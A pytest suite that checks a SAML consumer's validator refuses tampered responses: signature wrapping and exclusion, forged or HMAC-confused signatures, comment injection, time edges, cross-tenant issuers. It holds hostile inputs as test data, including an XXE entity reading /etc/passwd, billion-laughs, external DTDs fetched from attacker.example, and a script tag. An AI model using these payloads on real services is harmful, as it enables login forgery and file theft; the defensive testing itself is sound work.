"""docs/security.md, "SAML at the ACS": one test (or parametrised set) per line the validator owns.

Every hostile message starts as a genuinely signed response from a real IdP (pysaml2's IdP
side with a key made at test time) and is changed by tree surgery. Lines 7, 9, 15, 16, 17
are the ACS handler's (replay cache, request cookie, RelayState, kill switch, invitations).
"""

from __future__ import annotations

import copy
from datetime import datetime, timedelta

import pytest
import xmlsec
from lxml import etree

from sso_core.saml import IdpSettings, SpIdentity
from sso_core.saml.certificates import certificate_der
from sso_core.saml.crypto_backend import SignatureRejected, verify_element
from sso_core.saml.pysaml2_config import sp_client
from sso_core.saml.response_validation import _instant
from sso_core.saml.xml_names import NS_DS, NS_SAML, NS_SAMLP
from sso_local.saml_idp import RealIdp, b64
from tests.support import tampering
from tests.support.saml_messages import ACS_URL, IDP_A_ENTITY_ID, REQUEST_ID, issue
from tests.support.tampering import EVIL, NS, assertion_of, encrypted_assertion, one, resign


def _trusted(sp: SpIdentity, settings: IdpSettings):
    return sp_client(sp, settings).sec.crypto.trusted


# 1. Signature wrapping ------------------------------------------------------------------------


@pytest.mark.parametrize("variant", sorted(tampering.XSW))
def test_1_signature_wrapping_is_refused(
    variant: str, entra_xml: str, both_signed_xml: str, rejected, sp, settings_a
) -> None:
    source = both_signed_xml if variant in tampering.RESPONSE_WRAPPING else entra_xml
    root = tampering.XSW[variant](tampering.parse(source))
    assert EVIL in etree.tostring(root, encoding="unicode")

    refusal = rejected(root, "assertion_count")
    assert "assertion" in refusal.detail

    # Defence in depth: without the count rule, the assertion an attacker wants us to read
    # still never verifies with the IdP's certificate.
    evil = [a for a in root.iter(f"{{{NS_SAML}}}Assertion") if _name_id_text(a) == EVIL]
    assert evil
    for assertion in evil:
        with pytest.raises(SignatureRejected) as caught:
            verify_element(assertion, _trusted(sp, settings_a))
        assert caught.value.reason in ("unsigned", "signature_invalid", "wrapped_signature")


def _name_id_text(assertion: etree._Element) -> str:
    return assertion.findtext(f"{{{NS_SAML}}}Subject/{{{NS_SAML}}}NameID") or ""


@pytest.mark.parametrize("variant", sorted(tampering.RESPONSE_WRAPPING))
def test_1_response_wrapping_fails_the_response_signature(variant: str, both_signed_xml: str, sp, settings_a) -> None:
    root = tampering.XSW[variant](tampering.parse(both_signed_xml))
    with pytest.raises(SignatureRejected) as caught:
        verify_element(root, _trusted(sp, settings_a))
    assert caught.value.reason in ("signature_invalid", "wrapped_signature")


def test_1_backend_verifies_only_the_named_node(entra_xml: str, sp, settings_a, tmp_path) -> None:
    """pysaml2's call path: the backend checks the element pysaml2 names by ID, nothing else."""
    backend = sp_client(sp, settings_a).sec.crypto
    cert_file = tmp_path / "idp.pem"
    cert_file.write_text(settings_a.certificates[0])
    node = "urn:oasis:names:tc:SAML:2.0:assertion:Assertion"
    genuine_id = assertion_of(tampering.parse(entra_xml)).get("ID")
    assert backend.validate_signature(entra_xml, str(cert_file), "pem", node, genuine_id) is True

    wrapped = tampering.serialise(tampering.xsw3(tampering.parse(entra_xml)))
    assert backend.validate_signature(wrapped, str(cert_file), "pem", node, genuine_id) is True  # the genuine one
    with pytest.raises(SignatureRejected):
        backend.validate_signature(wrapped, str(cert_file), "pem", node, "_evil_assertion")  # not signed

    duplicated = tampering.parse(entra_xml)
    clone = copy.deepcopy(assertion_of(duplicated))
    tampering.set_name_id(clone, EVIL)
    duplicated.append(clone)  # same ID twice
    with pytest.raises(SignatureRejected) as caught:
        backend.validate_signature(tampering.serialise(duplicated), str(cert_file), "pem", node, genuine_id)
    assert caught.value.reason == "wrapped_signature"


def test_1_signature_referencing_another_element_is_refused(entra_xml: str, rejected, idp_a: RealIdp) -> None:
    root = tampering.parse(entra_xml)
    reference = one(assertion_of(root), "ds:Signature/ds:SignedInfo/ds:Reference")
    reference.set("URI", "#" + root.get("ID"))
    rejected(root, "wrapped_signature")


def test_1_xml_id_attribute_is_refused(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    root.set("{http://www.w3.org/XML/1998/namespace}id", assertion_of(root).get("ID"))
    rejected(root, "wrapped_signature")


# 2. Signature exclusion -----------------------------------------------------------------------


def test_2_every_signature_removed_is_refused(both_signed_xml: str, rejected) -> None:
    root = tampering.parse(both_signed_xml)
    for signature in root.iter(f"{{{NS_DS}}}Signature"):
        signature.getparent().remove(signature)
    tampering.set_name_id(assertion_of(root), EVIL)
    rejected(root, "unsigned")


def test_2_assertion_signature_removed_under_a_signed_response_is_refused(both_signed_xml: str, rejected) -> None:
    root = tampering.parse(both_signed_xml)
    tampering.remove(tampering.signature_of(assertion_of(root)))
    rejected(root, "unsigned")


def test_2_empty_signature_value_is_refused(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    one(assertion_of(root), "ds:Signature/ds:SignatureValue").text = ""
    rejected(root, "unsigned")


# 3. Certificate faking ------------------------------------------------------------------------


def test_3_resigned_with_attacker_key_in_key_info_is_refused(entra_xml: str, rejected, attacker_keys) -> None:
    root = tampering.parse(entra_xml)
    assertion = assertion_of(root)
    tampering.set_name_id(assertion, EVIL)
    resign(assertion, attacker_keys.key_pem, attacker_keys.cert_pem)
    presented = one(assertion, "ds:Signature/ds:KeyInfo/ds:X509Data/ds:X509Certificate").text
    assert certificate_der(presented) == certificate_der(attacker_keys.cert_pem)
    rejected(root, "unknown_certificate")


def test_3_resigned_with_attacker_key_showing_the_idp_certificate_is_refused(
    entra_xml: str, rejected, attacker_keys, idp_a: RealIdp
) -> None:
    root = tampering.parse(entra_xml)
    assertion = assertion_of(root)
    tampering.set_name_id(assertion, EVIL)
    resign(assertion, attacker_keys.key_pem, attacker_keys.cert_pem)
    one(assertion, "ds:Signature/ds:KeyInfo/ds:X509Data/ds:X509Certificate").text = tampering.cert_body(
        idp_a.keys.cert_pem
    )
    rejected(root, "signature_invalid")


# 4. Algorithm confusion -----------------------------------------------------------------------

C = xmlsec.constants


@pytest.mark.parametrize(
    ("sign_method", "digest_method"),
    [
        pytest.param(C.TransformRsaSha1, C.TransformSha256, id="rsa-sha1"),
        pytest.param(C.TransformRsaSha256, C.TransformSha1, id="sha1-digest"),
        pytest.param(C.TransformRsaSha256, C.TransformMd5, id="md5-digest"),
        pytest.param(C.TransformRsaMd5, C.TransformSha256, id="rsa-md5"),
    ],
)
def test_4_weak_algorithms_signed_by_the_idp_key_are_refused(
    sign_method, digest_method, entra_xml: str, rejected, idp_a: RealIdp
) -> None:
    root = tampering.parse(entra_xml)
    resign(
        assertion_of(root),
        idp_a.keys.key_pem,
        idp_a.keys.cert_pem,
        sign_method=sign_method,
        digest_method=digest_method,
    )
    rejected(root, "weak_algorithm")


@pytest.mark.parametrize("hmac", [C.TransformHmacSha256, C.TransformHmacSha1], ids=["hmac-sha256", "hmac-sha1"])
def test_4_hmac_keyed_with_the_public_certificate_is_refused(hmac, entra_xml: str, rejected, idp_a: RealIdp) -> None:
    """The classic confusion: HMAC whose secret is the IdP's public certificate, which anyone has."""
    root = tampering.parse(entra_xml)
    assertion = assertion_of(root)
    tampering.set_name_id(assertion, EVIL)
    resign(
        assertion,
        "",
        idp_a.keys.cert_pem,
        sign_method=hmac,
        hmac_secret=certificate_der(idp_a.keys.cert_pem),
    )
    rejected(root, "weak_algorithm")


def test_4_canonicalisation_with_comments_is_refused(entra_xml: str, rejected, idp_a: RealIdp) -> None:
    root = tampering.parse(entra_xml)
    resign(
        assertion_of(root),
        idp_a.keys.key_pem,
        idp_a.keys.cert_pem,
        c14n_method=C.TransformExclC14NWithComments,
    )
    rejected(root, "unsupported_algorithm")


# 5. Comment injection -------------------------------------------------------------------------


def test_5_comment_in_name_id_reads_the_whole_text(idp_a: RealIdp, sp: SpIdentity, validate) -> None:
    """The attacker owns victim@corp.com.evil.com at the IdP and gets a genuine assertion for it;
    a comment splits the text node. Exclusive C14N drops comments, so the signature still
    verifies: what must not happen is reading only the first text node."""
    registered = "victim@corp.com.evil.com"
    root = tampering.parse(issue(idp_a, sp, name_id=registered))
    name_id = one(assertion_of(root), "saml:Subject/saml:NameID")
    name_id.text = "victim@corp.com"
    comment = etree.Comment("")
    name_id.append(comment)
    comment.tail = ".evil.com"
    for value in assertion_of(root).iterfind(f".//{{{NS_SAML}}}AttributeValue"):
        if value.text == registered:
            value.text = "victim@corp.com"
            injected = etree.Comment("")
            value.append(injected)
            injected.tail = ".evil.com"
    message = etree.tostring(root)
    assert b"victim@corp.com<!---->.evil.com" in message

    login = validate(message)
    assert login.name_id == registered
    assert login.email == registered
    assert login.email_domain == "corp.com.evil.com"
    assert all(v == registered for v in login.attributes["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name"])


# 6. DOCTYPE and size, before any parser -------------------------------------------------------

DOCTYPES = {
    "xxe": '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "billion-laughs": '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "external-dtd": '<!DOCTYPE Response SYSTEM "http://attacker.example/saml.dtd">',
    "lower-case": "<!doctype Response>",
    "parameter-entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
}


@pytest.mark.parametrize("declaration", sorted(DOCTYPES))
def test_6_doctype_of_any_kind_is_refused_before_parsing(declaration: str, entra_xml: str, validate) -> None:
    message = DOCTYPES[declaration] + entra_xml
    with pytest.MonkeyPatch.context() as patch:
        _refuse_parsers(patch)
        with pytest.raises(Exception) as caught:
            validate(message)
    assert getattr(caught.value, "reason", None) == "doctype_forbidden", caught.value


def test_6_entity_declaration_hidden_after_the_root_is_refused(entra_xml: str, validate) -> None:
    with pytest.MonkeyPatch.context() as patch:
        _refuse_parsers(patch)
        with pytest.raises(Exception) as caught:
            validate(entra_xml + '<!ENTITY x "y">')
    assert getattr(caught.value, "reason", None) == "doctype_forbidden"


def test_6_other_encodings_are_refused(entra_xml: str, rejected) -> None:
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPES["xxe"] + entra_xml).encode("utf-16")
    rejected(utf16, "malformed")


def test_6_oversized_body_is_refused_before_decoding(entra_xml: str, sp, settings_a, now) -> None:
    from sso_core.saml import AcsRejected, validate_response

    huge = b64(entra_xml + " " * (300 * 1024))
    with pytest.MonkeyPatch.context() as patch:
        _refuse_parsers(patch)
        with pytest.raises(AcsRejected) as caught:
            validate_response(huge, sp=sp, idp=settings_a, now=now)
    assert caught.value.reason == "too_large"
    with pytest.raises(AcsRejected) as caught:
        validate_response(b64(entra_xml), sp=sp, idp=settings_a, now=now, max_bytes=1024)
    assert caught.value.reason == "too_large"


def test_6_garbage_is_malformed(rejected, sp, settings_a, now) -> None:
    from sso_core.saml import AcsRejected, validate_response

    for value in ("not base64 at all!", "", b64("<unclosed>"), b64(b"\xff\xfe\x00")):
        with pytest.raises(AcsRejected) as caught:
            validate_response(value, sp=sp, idp=settings_a, now=now)
        assert caught.value.reason == "malformed"


def _refuse_parsers(patch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("an XML parser ran")

    import defusedxml.ElementTree

    patch.setattr(etree, "fromstring", refuse)
    patch.setattr(etree, "XML", refuse)
    patch.setattr(etree, "parse", refuse)
    patch.setattr(defusedxml.ElementTree, "fromstring", refuse)


# 8. Unsolicited -------------------------------------------------------------------------------


def test_8_idp_initiated_response_is_refused(idp_a: RealIdp, sp: SpIdentity, rejected) -> None:
    xml = issue(idp_a, sp, in_response_to=None)
    assert "InResponseTo" not in xml
    refusal = rejected(xml, "unsolicited")
    assert "start" in refusal.detail


def test_8_in_response_to_added_to_an_unsigned_response_is_refused(idp_a: RealIdp, sp: SpIdentity, rejected) -> None:
    root = tampering.parse(issue(idp_a, sp, in_response_to=None))
    root.set("InResponseTo", REQUEST_ID)  # only the signed SubjectConfirmationData counts
    rejected(root, "unsolicited")


def test_8_in_response_to_differing_from_the_signed_one_is_refused(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    root.set("InResponseTo", "_another_request")
    rejected(root, "in_response_to_mismatch")


# 10. Audience, Destination, Recipient, Issuer -------------------------------------------------


def _resigned(xml: str, idp: RealIdp, change) -> etree._Element:
    """The IdP itself signs an assertion with this change (a genuine assertion meant elsewhere)."""
    root = tampering.parse(xml)
    assertion = assertion_of(root)
    change(assertion)
    resign(assertion, idp.keys.key_pem, idp.keys.cert_pem)
    return root


def test_10_wrong_audience_is_refused(entra_xml: str, idp_a: RealIdp, rejected) -> None:
    def other_sp(assertion):
        one(assertion, "saml:Conditions/saml:AudienceRestriction/saml:Audience").text = "https://other-sp.example"

    rejected(_resigned(entra_xml, idp_a, other_sp), "wrong_audience")


def test_10_missing_audience_restriction_is_refused(entra_xml: str, idp_a: RealIdp, rejected) -> None:
    def unrestricted(assertion):
        tampering.remove(one(assertion, "saml:Conditions/saml:AudienceRestriction"))

    rejected(_resigned(entra_xml, idp_a, unrestricted), "wrong_audience")


def test_10_wrong_destination_is_refused(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    root.set("Destination", "https://other-sp.example/acs")
    rejected(root, "wrong_destination")


def test_10_signed_response_without_destination_is_refused(both_signed_xml: str, idp_a: RealIdp, rejected) -> None:
    root = tampering.parse(both_signed_xml)
    del root.attrib["Destination"]
    resign(root, idp_a.keys.key_pem, idp_a.keys.cert_pem)
    rejected(root, "wrong_destination")


def test_10_signed_response_with_wrong_destination_is_refused(both_signed_xml: str, idp_a: RealIdp, rejected) -> None:
    root = tampering.parse(both_signed_xml)
    root.set("Destination", "https://other-sp.example/acs")
    resign(root, idp_a.keys.key_pem, idp_a.keys.cert_pem)
    rejected(root, "wrong_destination")


def test_10_wrong_recipient_is_refused(entra_xml: str, idp_a: RealIdp, rejected) -> None:
    def other_acs(assertion):
        one(assertion, "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData").set(
            "Recipient", "https://other-sp.example/acs"
        )

    rejected(_resigned(entra_xml, idp_a, other_acs), "wrong_recipient")


def test_10_wrong_response_issuer_is_refused(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    one(root, "saml:Issuer").text = "https://sts.windows.net/someone-else/"
    rejected(root, "wrong_issuer")


def test_10_wrong_assertion_issuer_is_refused(entra_xml: str, idp_a: RealIdp, rejected) -> None:
    def other_issuer(assertion):
        one(assertion, "saml:Issuer").text = "https://sts.windows.net/someone-else/"

    rejected(_resigned(entra_xml, idp_a, other_issuer), "wrong_issuer")


def test_10_bearer_is_required(entra_xml: str, idp_a: RealIdp, rejected) -> None:
    def holder_of_key(assertion):
        one(assertion, "saml:Subject/saml:SubjectConfirmation").set(
            "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"
        )

    rejected(_resigned(entra_xml, idp_a, holder_of_key), "not_bearer")


# 11. Time, at the edges -----------------------------------------------------------------------

SKEW = 120


def _times(root: etree._Element) -> dict[str, datetime]:
    assertion = assertion_of(root)
    conditions = one(assertion, "saml:Conditions")
    data = one(assertion, "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData")
    return {
        "issued": _instant(root.get("IssueInstant"), ""),
        "not_before": _instant(conditions.get("NotBefore"), ""),
        "not_on_or_after": _instant(conditions.get("NotOnOrAfter"), ""),
        "scd_not_on_or_after": _instant(data.get("NotOnOrAfter"), ""),
    }


def test_11_conditions_not_on_or_after_at_the_edge(entra_xml: str, validate, rejected) -> None:
    times = _times(tampering.parse(entra_xml))
    edge = times["not_on_or_after"] + timedelta(seconds=SKEW)
    assert validate(entra_xml, now=edge - timedelta(seconds=1), skew_seconds=SKEW)
    rejected(entra_xml, "expired", now=edge, skew_seconds=SKEW)


def test_11_subject_confirmation_not_on_or_after_at_the_edge(entra_xml: str, idp_a: RealIdp, validate, rejected):
    issued = _times(tampering.parse(entra_xml))["issued"]
    short = issued + timedelta(minutes=5)

    def five_minutes(assertion):
        one(assertion, "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData").set(
            "NotOnOrAfter", short.strftime("%Y-%m-%dT%H:%M:%SZ")
        )

    root = _resigned(entra_xml, idp_a, five_minutes)
    edge = short + timedelta(seconds=SKEW)
    login = validate(root, now=edge - timedelta(seconds=1), skew_seconds=SKEW)
    assert login.assertion_not_on_or_after == short  # the earlier of the two NotOnOrAfter
    refusal = rejected(root, "expired", now=edge, skew_seconds=SKEW)
    assert "SubjectConfirmationData" in refusal.detail


def test_11_future_not_before_at_the_edge(entra_xml: str, idp_a: RealIdp, validate, rejected) -> None:
    issued = _times(tampering.parse(entra_xml))["issued"]
    later = issued + timedelta(minutes=10)

    def not_yet(assertion):
        one(assertion, "saml:Conditions").set("NotBefore", later.strftime("%Y-%m-%dT%H:%M:%SZ"))

    root = _resigned(entra_xml, idp_a, not_yet)
    edge = later - timedelta(seconds=SKEW)
    assert validate(root, now=edge, skew_seconds=SKEW)
    refusal = rejected(root, "not_yet_valid", now=edge - timedelta(seconds=1), skew_seconds=SKEW)
    assert "NotBefore" in refusal.detail


def test_11_issue_instant_in_the_future_at_the_edge(entra_xml: str, validate, rejected) -> None:
    issued = _times(tampering.parse(entra_xml))["issued"]
    edge = issued - timedelta(seconds=SKEW)
    assert validate(entra_xml, now=edge, skew_seconds=SKEW)
    rejected(entra_xml, "not_yet_valid", now=edge - timedelta(seconds=1), skew_seconds=SKEW)


def test_11_maximum_skew_is_180_seconds(entra_xml: str, validate, rejected) -> None:
    times = _times(tampering.parse(entra_xml))
    edge = times["not_on_or_after"] + timedelta(seconds=180)
    assert validate(entra_xml, now=edge - timedelta(seconds=1), skew_seconds=180)
    rejected(entra_xml, "expired", now=edge, skew_seconds=180)
    with pytest.raises(ValueError):
        validate(entra_xml, skew_seconds=181)


def test_11_zero_skew_edges(entra_xml: str, validate, rejected) -> None:
    times = _times(tampering.parse(entra_xml))
    assert validate(entra_xml, now=times["not_on_or_after"] - timedelta(seconds=1), skew_seconds=0)
    rejected(entra_xml, "expired", now=times["not_on_or_after"], skew_seconds=0)
    assert validate(entra_xml, now=times["not_before"], skew_seconds=0)
    rejected(entra_xml, "not_yet_valid", now=times["not_before"] - timedelta(seconds=1), skew_seconds=0)


# 12. Cross-tenant: signed by tenant B's IdP ---------------------------------------------------


def test_12_response_signed_by_another_tenants_idp_is_refused(idp_b: RealIdp, sp: SpIdentity, rejected) -> None:
    xml = issue(idp_b, sp)
    rejected(xml, "unknown_certificate")


def test_12_another_tenants_idp_claiming_our_issuer_is_refused(idp_b: RealIdp, sp: SpIdentity, rejected) -> None:
    root = tampering.parse(issue(idp_b, sp))
    for issuer in root.iter(f"{{{NS_SAML}}}Issuer"):
        issuer.text = IDP_A_ENTITY_ID
    resign(assertion_of(root), idp_b.keys.key_pem, idp_b.keys.cert_pem)
    rejected(root, "unknown_certificate")


def test_12_tenant_b_is_accepted_with_its_own_settings(idp_b: RealIdp, sp: SpIdentity, validate) -> None:
    settings_b = IdpSettings(idp_b.entity_id, idp_b.sso_url, (idp_b.keys.cert_pem,))
    assert validate(issue(idp_b, sp), idp=settings_b).issuer == idp_b.entity_id


# 13. Assertion count --------------------------------------------------------------------------


def test_13_zero_assertions_is_refused(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    tampering.remove(assertion_of(root))
    rejected(root, "assertion_count")


def test_13_two_assertions_is_refused(entra_xml: str, idp_a: RealIdp, sp: SpIdentity, rejected) -> None:
    root = tampering.parse(entra_xml)
    other = assertion_of(tampering.parse(issue(idp_a, sp, name_id="bob@contoso.com")))
    root.append(other)  # both genuinely signed by the IdP
    rejected(root, "assertion_count")


def test_13_plain_plus_encrypted_assertion_is_refused(entra_xml: str, sp: SpIdentity, rejected) -> None:
    root = tampering.parse(entra_xml)
    plain = assertion_of(root)
    encrypted = encrypted_assertion(copy.deepcopy(plain), sp.cert_pem)
    root.append(encrypted)
    assert root.find(f"{{{NS_SAML}}}EncryptedAssertion") is not None
    rejected(root, "assertion_count")


def test_13_encrypted_assertion_alone_is_refused(entra_xml: str, sp: SpIdentity, rejected) -> None:
    root = tampering.parse(entra_xml)
    plain = assertion_of(root)
    root.replace(plain, encrypted_assertion(copy.deepcopy(plain), sp.cert_pem))
    rejected(root, "assertion_count")


def test_13_assertion_hidden_in_advice_is_refused(entra_xml: str, rejected) -> None:
    rejected(tampering.advice_wrapping(tampering.parse(entra_xml)), "assertion_count")


# 14. Status -----------------------------------------------------------------------------------


def test_14_non_success_status_is_refused_with_its_codes(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    code = one(root, "samlp:Status/samlp:StatusCode")
    code.set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
    etree.SubElement(code, f"{{{NS_SAMLP}}}StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed")
    refusal = rejected(root, "status_not_success")
    assert "urn:oasis:names:tc:SAML:2.0:status:Responder" in refusal.detail
    assert "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed" in refusal.detail


def test_14_idp_error_response_is_refused_with_its_codes(idp_a: RealIdp, rejected) -> None:
    xml = idp_a.error_response_xml(
        acs_url=ACS_URL, in_response_to=REQUEST_ID, second_level="urn:oasis:names:tc:SAML:2.0:status:RequestDenied"
    )
    refusal = rejected(xml, "status_not_success")
    assert refusal.detail.endswith(
        "urn:oasis:names:tc:SAML:2.0:status:Responder / urn:oasis:names:tc:SAML:2.0:status:RequestDenied."
    )


def test_14_status_detail_never_echoes_arbitrary_text(entra_xml: str, rejected) -> None:
    root = tampering.parse(entra_xml)
    one(root, "samlp:Status/samlp:StatusCode").set("Value", "<script>alert(1)</script> victim@corp.com")
    refusal = rejected(root, "status_not_success")
    assert "victim" not in refusal.detail and "<" not in refusal.detail


# Details are log-safe -------------------------------------------------------------------------


def test_refusal_details_never_carry_the_message(entra_xml: str, idp_a: RealIdp, attacker_keys, validate) -> None:
    from sso_core.saml import AcsRejected

    root = tampering.parse(entra_xml)
    assertion = assertion_of(root)
    tampering.set_name_id(assertion, EVIL)
    resign(assertion, attacker_keys.key_pem, attacker_keys.cert_pem)
    with pytest.raises(AcsRejected) as caught:
        validate(root)
    text = str(caught.value)
    assert "evil.example" not in text and "contoso" not in text and "<" not in text
    assert NS["saml"] not in text


@pytest.mark.parametrize("c14n", [C.TransformInclC14N, C.TransformInclC14N11], ids=["c14n-1.0", "c14n-1.1"])
def test_4_inclusive_canonicalisation_is_refused_at_the_acs(c14n, entra_xml: str, rejected, idp_a: RealIdp) -> None:
    """The backend's policy allows inclusive C14N; SAML (and pysaml2) want exclusive C14N."""
    root = tampering.parse(entra_xml)
    resign(assertion_of(root), idp_a.keys.key_pem, idp_a.keys.cert_pem, c14n_method=c14n)
    rejected(root, "unsupported_algorithm")
